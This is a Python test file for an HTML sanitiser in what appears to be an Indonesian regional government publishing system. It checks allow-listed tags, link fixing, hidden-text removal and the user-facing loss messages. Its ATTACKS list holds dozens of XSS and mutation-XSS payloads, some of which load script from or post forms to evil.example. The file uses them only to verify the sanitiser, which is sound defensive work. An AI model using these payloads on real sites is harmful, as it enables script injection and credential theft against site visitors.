"""The allow-list: what staff HTML may become, and what never comes through."""

import re
from html.parser import HTMLParser

import pytest
from django.utils.safestring import SafeString, mark_safe
from hypothesis import given, settings
from hypothesis import strategies as st

from kominfo.lib.markup import allow_list, html
from kominfo.lib.markup.losses import sentences

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<p onclick=alert(1)>teks</p>",
    '<p data-cke-pa-onclick="alert(1)">teks</p>',
    '<a data-cke-saved-href="javascript:alert(1)" href="https://malutprov.go.id/">teks</a>',
    '<p data-cke-realelement="%3Cscript%3Ealert(1)%3C%2Fscript%3E" class="cke_protected">teks</p>',
    "<!--{cke_protected}%3Cscript%3Ealert(1)%3C%2Fscript%3E--><p>teks</p>",
    "<!-- <img src=x onerror=alert(1)> --><p>teks</p>",
    '<a href="javascript:alert(1)">teks</a>',
    '<a href="javascript&colon;alert(1)">teks</a>',
    '<a href="&#106;avascript:alert(1)">teks</a>',
    '<a href=" \x01javascript:alert(1)">teks</a>',
    '<a href="java\tscript:alert(1)">teks</a>',
    '<a href="JaVaScRiPt:alert(1)">teks</a>',
    '<a href="vbscript:x">teks</a>',
    '<a href="data:text/html,<script>alert(1)</script>">teks</a>',
    '<a href="//evil.example/">teks</a>',
    '<a href="/\\evil.example/">teks</a>',
    '<a href="\\\\evil.example/">teks</a>',
    '<a href="/\t/evil.example/">teks</a>',
    '<a href="https:evil.example">teks</a>',
    '<a href="https://kominfo.go.id@evil.example/">teks</a>',
    '<a href="https://evil.example/\u202egnp.exe">teks</a>',
    '<a href="https://[::1">teks</a>',
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)><p>teks</p></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x><embed src=x></object><base href=//evil.example><meta http-equiv=refresh content=0>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    '<p style="position:fixed;top:0;background:url(javascript:alert(1))" class="x" id="y">teks</p>',
    '<blockquote cite="javascript:alert(1)">teks</blockquote>',
    '<map><area href="javascript:alert(1)"></map>',
    '<figure data-photo="1 onclick=alert(1)"><p>teks</p></figure>',
    '<figure data-photo="12" onclick="alert(1)"></figure>',
    '<table background="javascript:alert(1)"><tr><td style="x" colspan="9999999">teks</td></tr></table>',
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
]


class _Inspector(HTMLParser):
    """Reads the result as another parser would and collects what does not belong."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in allow_list.TAGS:
            self.found.append(tag)
        self.found += [f"{tag} {name}" for name, _ in attrs if name not in allow_list.ATTRIBUTES.get(tag, ())]
        self.found += [value for name, value in attrs if name == "href" and not _is_good_address(value)]

    def handle_comment(self, data):
        self.found.append(f"comment {data}")

    def handle_decl(self, decl):
        self.found.append(f"declaration {decl}")

    handle_pi = unknown_decl = handle_decl


def _is_good_address(value):
    return bool(re.match(r"(https?://[^/\\@]|mailto:|tel:|/(?![/\\])|#)", value, re.IGNORECASE))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_executable_comes_through(attack):
    assert _Inspector(html.clean(attack)).found == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_cleaned_attacks_stay_as_they_are(attack):
    cleaned = html.clean(attack)

    assert html.wash(cleaned) == cleaned


PIECES = [
    *ATTACKS,
    *(
        f"<{tag}>"
        for tag in sorted(
            allow_list.TAGS | allow_list.COUNTERPARTS.keys() | {"button", "span", "form", "svg"}
        )
    ),
    *(
        f"</{tag}>"
        for tag in sorted(
            allow_list.TAGS | allow_list.COUNTERPARTS.keys() | {"button", "span", "form", "svg"}
        )
    ),
    '<figure data-photo="7">',
    '<a href="/agenda/">',
    '<td colspan="2">',
    "kata ",
    " ",
    "&nbsp;",
    "&amp;lt;",
    '<span style="display:none">',
    '<p style="font-size:0">',
    '<b style="text-decoration:line-through">',
    '<li style="list-style-type:lower-roman" value="3">',
    '<ol type="a">',
    '<a href="https://x.id/">',
    '<a href="www.x.id">',
    "<del>",
    "</del>",
    "<q>",
    "</q>",
    '<img alt="😀">',
    "&#8203;",
    "\u00ad",
    ".",
    "&#1;",
    "<",
    "&",
    '"',
    "\u2028",
    "\n",
]


@settings(max_examples=300)
@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=5), max_size=25).map("".join))
def test_any_soup_becomes_allowed_and_settled(soup):
    cleaned = html.clean(soup)

    assert _Inspector(cleaned).found == []
    assert html.wash(cleaned) == cleaned


@settings(max_examples=150)
@given(
    st.lists(
        st.sampled_from(
            [
                "<p>",
                "</p>",
                "<b>",
                "</b>",
                "<div>",
                "<li>",
                "<figure data-photo=3>",
                "<h2>",
                "</figure>",
                "<a>",
            ]
        )
        | st.sampled_from(["satu", "dua", "tiga"]),
        max_size=20,
    )
)
def test_no_word_is_lost_and_their_order_stays(pieces):
    words = [piece for piece in pieces if not piece.startswith("<")]

    assert "".join(re.findall(r"[a-z]+", html.to_text(html.clean("".join(pieces))))) == "".join(words)


@pytest.mark.parametrize(
    "source",
    [
        "<p>Satu <strong>dua</strong> <em>tiga</em><br>empat</p>\n<h2>Judul</h2>\n<h3>Sub</h3>\n<h4>Sub-sub</h4>",
        "<ul><li>satu</li><li>dua<ol><li>tiga</li></ol></li></ul>",
        "<blockquote><p>Kata beliau.</p></blockquote>",
        '<p><a href="https://malutprov.go.id/a?b=1&amp;c=2#d">situs</a> <a href="mailto:a@malutprov.go.id">surel</a> '
        '<a href="tel:+62921">telepon</a> <a href="/agenda/">agenda</a> <a href="#akhir">akhir</a></p>',
        '<table><caption>Hasil</caption><thead><tr><th scope="col">A</th><th colspan="2" scope="col">B</th></tr></thead>'
        '<tbody><tr><th scope="row">1</th><td rowspan="2">2</td><td></td></tr></tbody></table>',
        '<ol start="4" type="a"><li>d</li><li value="7">g</li></ol>\n<ol reversed=""><li>dua</li><li>satu</li></ol>',
        '<p>H<sub>2</sub>O, m<sup>2</sup></p>\n<figure data-photo="12"></figure>',
    ],
)
def test_what_the_toolbar_makes_is_kept_to_the_letter(source):
    assert html.clean(source) == source


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("", ""),
        ("teks saja", "<p>teks saja</p>"),
        ("<b>tebal</b> <i>miring</i>", "<p><strong>tebal</strong> <em>miring</em></p>"),
        ("<div>satu</div><div>dua</div>", "<p>satu</p>\n<p>dua</p>"),
        ("<h1>Judul</h1><h6>Kecil</h6>", "<h2>Judul</h2>\n<h4>Kecil</h4>"),
        ("<p>isi</p><p>&nbsp;</p><p><strong> </strong></p><h2></h2>", "<p>isi</p>"),
        ("<p>satu<strong> </strong>dua</p>", "<p>satu dua</p>"),
        (
            "<p>Gubernur&nbsp;<strong>Maluku\u00a0Utara</strong></p>",
            "<p>Gubernur <strong>Maluku Utara</strong></p>",
        ),
        ('<p><a name="x">jangkar</a><a href="https://x.id/"></a></p>', "<p>jangkar</p>"),
        (
            '<p><a href="https://malutprov.go.id/a b.pdf">berkas</a></p>',
            '<p><a href="https://malutprov.go.id/a%20b.pdf">berkas</a></p>',
        ),
        (
            "<p>Ra\u00adpat&shy; Ko&#8203;ordi\u2060nasi\ufeff Jose\u0301 \u202a0812\u20113\u202c e\u2028f</p>",
            "<p>Rapat Koordinasi José 0812-3 e\nf</p>",
        ),
        ("<p>👨‍👩‍👧 ❤️ \u202egpj&#xe000;\U000e0041</p>", "<p>👨‍👩‍👧 ❤️ gpj</p>"),
        ("<p>a\x00b\x0bc\ufffed</p>", "<p>ab cd</p>"),
        ("<p>a&#1;b&#xb;c</p>", "<p>ab c</p>"),
    ],
)
def test_other_markup_gets_its_plain_form(source, expected):
    assert html.clean(source) == expected


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (
            '<p>awal<figure data-photo="12"><img src="x"><figcaption>Keterangan</figcaption></figure>akhir</p>',
            '<p>awal</p>\n<figure data-photo="12"></figure>\n<p>Keterangan</p>\n<p>akhir</p>',
        ),
        (
            '<ul><li>satu<figure data-photo="3"></figure></li><li>dua</li></ul><p>akhir</p>',
            '<ul><li>satu</li><li>dua</li></ul>\n<figure data-photo="3"></figure>\n<p>akhir</p>',
        ),
        (
            '<figure data-photo="0"></figure><figure data-photo="1a">teks</figure><figure>lain</figure>',
            "<p>tekslain</p>",
        ),
        ('<figure data-photo="99999999999999999999"></figure>', ""),
    ],
)
def test_photo_references_stand_alone_between_the_blocks(source, expected):
    assert html.clean(source) == expected


def test_photo_references_take_new_ids_and_those_without_one_go():
    source = html.clean('<p>Isi</p><figure data-photo="1"></figure><figure data-photo="2"></figure>')

    assert (
        html.clean(html.with_photos_renamed(source, {2: 40}))
        == '<p>Isi</p>\n<figure data-photo="40"></figure>'
    )


def test_photo_references_are_listed_in_reading_order():
    source = '<figure data-photo="12"></figure><p>teks<figure data-photo="3"></figure></p><figure data-photo="12"></figure>'

    assert html.photo_references(source) == [12, 3, 12]


def test_figures_replace_their_references_and_unknown_ones_disappear():
    source = '<p>awal</p><figure data-photo="12"></figure><figure data-photo="99"></figure><p>akhir</p>'

    rendered = html.with_photos(source, {12: mark_safe(r"<figure><img alt=''> \1 <table></figure>")})

    assert isinstance(rendered, SafeString)
    assert rendered == "<p>awal</p>\n" + r"<figure><img alt=''> \1 <table></figure>" + "\n\n<p>akhir</p>"


def test_a_figure_that_no_template_rendered_is_escaped():
    assert html.with_photos('<figure data-photo="1"></figure>', {1: "<script>"}) == "&lt;script&gt;"


def test_tables_scroll_in_frames_with_names_of_their_own():
    table = "<table><tbody><tr><td>1</td></tr></tbody></table>"

    rendered = html.with_photos(table + table, {})

    assert rendered == (
        f'<div class="table-scroll" tabindex="0" role="region" aria-label="Tabel">{table}</div>\n'
        f'<div class="table-scroll" tabindex="0" role="region" aria-label="Tabel 2">{table}</div>'
    )


def test_text_keeps_paragraphs_lists_and_cells_apart():
    source = (
        "<h2>Judul</h2><p>Satu&nbsp;&amp; dua<br>tiga</p><ul><li>a</li><li>b</li></ul>"
        "<table><tr><th>K</th><td>1</td></tr><tr><th>L</th><td>2</td></tr></table>"
    )

    assert html.to_text(source) == "Judul\n\nSatu & dua\ntiga\n\na\nb\n\nK | 1\nL | 2"


def test_text_is_plain_even_when_it_talks_about_markup():
    assert html.to_text("<p>&lt;script&gt; &amp;amp;</p>") == "<script> &amp;"


@pytest.mark.parametrize(
    "hostile", ["<strong>" * 5000 + "x", "<table><tr><td>" * 1500 + "x", "<b><p>" * 1500 + "x"]
)
def test_deep_nesting_is_cleaned_and_settles(hostile):
    cleaned = html.clean(hostile)

    assert html.to_text(cleaned) == "x"
    assert html.wash(cleaned) == cleaned


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("<p>Harga <del>naik</del>turun</p>", "<p>Harga turun</p>"),
        ("<p>Harga <s>naik</s><ins>turun</ins></p>", "<p>Harga turun</p>"),
        ("<p>Harga <strike><b>naik</b><br></strike>turun</p>", "<p>Harga turun</p>"),
        (
            '<p>Harga <span style="TEXT-DECORATION: underline line-through">naik</span>turun</p>',
            "<p>Harga turun</p>",
        ),
        ('<p style="text-decoration-line:line-through">lama</p><p>baru</p>', "<p>baru</p>"),
        ('<p>a<span style="mso-hide:all">rahasia</span>b</p>', "<p>ab</p>"),
        ('<div style="display: none !important"><ul><li>rahasia</ul></div><p>b</p>', "<p>b</p>"),
        ("<p hidden>rahasia</p><p>b</p>", "<p>b</p>"),
        ('<p style="font-size:0">jarak<span style="font-size:14px">kata</span></p>', "<p>kata</p>"),
        (
            '<p style="visibility:hidden">a<b style="visibility:visible">b</b></p>',
            "<p><strong>b</strong></p>",
        ),
        ('<span style="position:absolute;left:-9999px">judi</span><p>b</p>', "<p>b</p>"),
        (
            "<p>Anggaran<span class=MsoCommentReference><a class=msocomanchor href='#_msocom_1'>[A1]</a></span> naik</p>"
            "<div style='mso-element:comment-list'><p class=MsoCommentText>Benarkah?</p></div>",
            "<p>Anggaran naik</p>",
        ),
        ('<p>Selamat <img alt="😀" src="x"><img data-emoji="👍🏽"></p>', "<p>Selamat 😀👍🏽</p>"),
        ("<p>Ia berkata <q>siap</q>.</p>", "<p>Ia berkata “siap”.</p>"),
        (
            "<main>satu</main><main>dua</main><dl><dt>a</dt><dd>b</dd></dl>",
            "<p>satu</p>\n<p>dua</p>\n<p>a</p>\n<p>b</p>",
        ),
        ("<p>x<sup>1<sup>2<sub>3</sub></sup></sup></p>", "<p>x<sup>123</sup></p>"),
        ('<ol style="list-style-type:lower-alpha"><li>a</ol>', '<ol type="a"><li>a</li></ol>'),
        (
            '<ol start=4><li style="list-style-type:upper-roman">a<li>b</ol>',
            '<ol start="4" type="I"><li>a</li><li>b</li></ol>',
        ),
        ('<ol start="empat" type="disc"><li value="x">a</ol>', "<ol><li>a</li></ol>"),
        (
            '<p><span class="TextRun TrackChangeDeleteHighlight SCXW1">turun</span>naik<span class=msoDel>lama</span></p>',
            "<p>naik</p>",
        ),
        ('<p>a<span style="font-size:0.1pt">b</span><span style="font-size:1px">c</span></p>', "<p>a</p>"),
        (
            '<p>10<span style="vertical-align:super">3</span> H<font style="mso-text-raise:-3.0pt">2</font>O</p>',
            "<p>10<sup>3</sup> H<sub>2</sub>O</p>",
        ),
        ('<ol style="list-style:outside upper-roman"><li>a</ol>', '<ol type="I"><li>a</li></ol>'),
        ('<ol><li type="i">a</ol>', '<ol type="i"><li>a</li></ol>'),
        ('<ol start=" +4 "><li value="07.">a</ol>', '<ol start="4"><li value="7">a</li></ol>'),
        ("<menu><li>a</menu><dir><li>b</dir>", "<ul><li>a</li></ul>\n<ul><li>b</li></ul>"),
        ("<p>x</p><li>a</li><li>b</li>", "<p>x</p>\n<ul><li>a</li><li>b</li></ul>"),
        (
            "<table><tr><td colspan=100>a<td rowspan=0>b</table>",
            '<table><tbody><tr><td colspan="100">a</td><td rowspan="0">b</td></tr></tbody></table>',
        ),
    ],
)
def test_what_looks_of_other_programs_say_is_understood(source, expected):
    assert html.clean(source) == expected
    assert html.wash(expected) == expected


@pytest.mark.parametrize(
    ("written", "target"),
    [
        ("www.malutprov.go.id/berita?id=1", "https://www.malutprov.go.id/berita?id=1"),
        ("malutprov.go.id", "https://malutprov.go.id"),
        ("//malutprov.go.id/x", "https://malutprov.go.id/x"),
        ("//malutprov.go.id:8080/x", "https://malutprov.go.id:8080/x"),
        ("humas@malutprov.go.id", "mailto:humas@malutprov.go.id"),
        ("+62 812-3456-7890", "tel:+6281234567890"),
        ("\u200bhttps://malutprov.go.id/\u200b", "https://malutprov.go.id/"),
    ],
)
def test_an_address_that_lacks_its_scheme_gets_it(written, target):
    assert html.links(html.clean(f'<p><a href="{written}">situs</a></p>')) == [("situs", target)]


@pytest.mark.parametrize(
    "written",
    [
        "laporan.pdf",
        "berita/2026",
        "javascript:alert(1)",
        "file:///C:/x.docx",
        "mailto:",
        "",
        "x",
        "https:x.id",
        "#_ftn1",
    ],
)
def test_an_address_that_leads_nowhere_is_no_link(written):
    assert html.clean(f'<p><a href="{written}">situs</a></p>') == "<p>situs</p>"


@pytest.mark.parametrize(
    "unseen",
    [
        "",
        " ",
        "&nbsp;",
        "&#8203;",
        "&shy;",
        "<br>",
        "&#12644;",
        "&#10240;",
        "&#769;",
        "<b><i></i></b>",
        "&#8203;<b>&zwj;</b>",
        "<img src=x>",
    ],
)
def test_a_link_that_nobody_sees_goes(unseen):
    cleaned = html.clean(f'<p>awal <a href="https://judi.example/">{unseen}</a>akhir</p>')

    assert html.links(cleaned) == []
    assert html.to_text(cleaned).split() == ["awal", "akhir"] or unseen in {"&#769;"}


@pytest.mark.parametrize("sign", [".", ",", "…", "·", "”", "´", "ˈ"])
def test_a_link_on_a_dot_or_comma_alone_is_unwrapped(sign):
    assert html.clean(f'<p>awal<a href="https://judi.example/">{sign}</a></p>') == f"<p>awal{sign}</p>"


@pytest.mark.parametrize("seen", ["situs", "1", "→", "😀", "<b>x</b>y", "中"])
def test_a_link_with_words_stays(seen):
    assert len(html.links(html.clean(f'<p><a href="https://malutprov.go.id/">{seen}</a></p>'))) == 1


@pytest.mark.parametrize(
    ("source", "said"),
    [
        (
            "<p>Harga <del>naik</del>turun</p>",
            ["Kata yang dicoret atau dihapus di naskah asalnya tidak ikut: “naik”."],
        ),
        (
            '<p>a<span style="mso-hide:all">rahasia</span>b</p>',
            ["Teks yang tersembunyi di naskah asalnya tidak ikut: “rahasia”."],
        ),
        ("<p class=MsoCommentText>Benarkah?</p>", ["Komentar dari naskah asalnya tidak ikut: “Benarkah?”."]),
        (
            '<p><img alt="Peta Halmahera" src="peta.png"><img src="data:image/png;base64,AA"></p>',
            [
                "Gambar dari luar tidak ikut: “Peta Halmahera” dan 1 lagi. Sisipkan dengan tombol Foto agar ada keterangan dan kredit."
            ],
        ),
        (
            '<p>a</p><iframe src="https://x.id"></iframe>',
            ["Sematan tidak ikut: iframe. Tulis tautannya sebagai gantinya."],
        ),
        ("<p>a <math><mi>x</mi></math></p>", ["Rumus tidak ikut: math. Tulis sebagai teks."]),
        ("<p>a</p><hr><p>b</p>", ["Garis pemisah tidak ikut. Pakai judul bagian sebagai gantinya."]),
        (
            "<p><u>penting</u></p>",
            ["Garis bawah tidak ikut: “penting”. Pakai tebal atau miring bila perlu penekanan."],
        ),
        (
            '<p><a href="gopher://x">a b</a><a href="javascript:alert(1)">klik</a></p>',
            [
                "Tautan tidak ikut karena alamatnya bukan alamat web, surel atau telepon yang lengkap: “a b” (gopher://x), “klik” (javascript:alert(1))."
            ],
        ),
        (
            '<p><a href="https://judi.example/">&#8203;</a><a href="https://judi.example/">.</a></p>',
            [
                "Tautan dihapus karena tidak memuat kata yang dapat dibaca: https://judi.example/, “.” (https://judi.example/)."
            ],
        ),
        (
            '<p><a href="www.malutprov.go.id">situs</a></p>',
            [
                "Alamat tautan dilengkapi: www.malutprov.go.id → https://www.malutprov.go.id. Periksa apakah benar."
            ],
        ),
        (
            '<p>a <a href="https://x.id/">b</a></p>',
            ["Tautan ini hanya satu huruf: “b” (https://x.id/). Periksa apakah memang dimaksud."],
        ),
        (
            '<p>Isi <a href="/agenda/">agenda</a> <a href="#_ftn1">[1]</a><a name="x"></a> <img alt="😀"></p>',
            [],
        ),
    ],
)
def test_what_is_taken_out_or_changed_is_told(source, said):
    assert sentences(html.losses(source)) == said


def test_cleaned_text_has_nothing_left_to_tell():
    for attack in ATTACKS:
        assert html.losses(html.clean(attack)) == []


@pytest.mark.parametrize(
    ("source", "sentence"),
    [
        ('<figure data-photo="7"></figure>' * 3, "Foto 7 dipasang 3 kali"),
        ("".join(f'<figure data-photo="{n}"></figure>' for n in range(1, 62)), "memuat 61 foto"),
        ('<p><a href="https://x.id/">situs</a></p>' * 301, "memuat 301 tautan"),
        ("<ul><li>" * 9 + "x", "bersarang terlalu dalam"),
    ],
)
def test_too_much_for_one_text_has_a_sentence(source, sentence):
    (said,) = html.excess(html.clean(source))

    assert sentence in said


def test_an_ordinary_long_text_is_not_too_much():
    assert (
        html.excess(
            html.clean(
                '<p>Isi <a href="https://x.id/">situs</a></p><ul><li>a<ol><li>b</li></ol></li></ul>' * 50
            )
        )
        == []
    )


def test_markup_that_never_closes_keeps_its_words():
    assert html.clean("<div>" * 20_000 + "kata") == "<p>kata</p>"
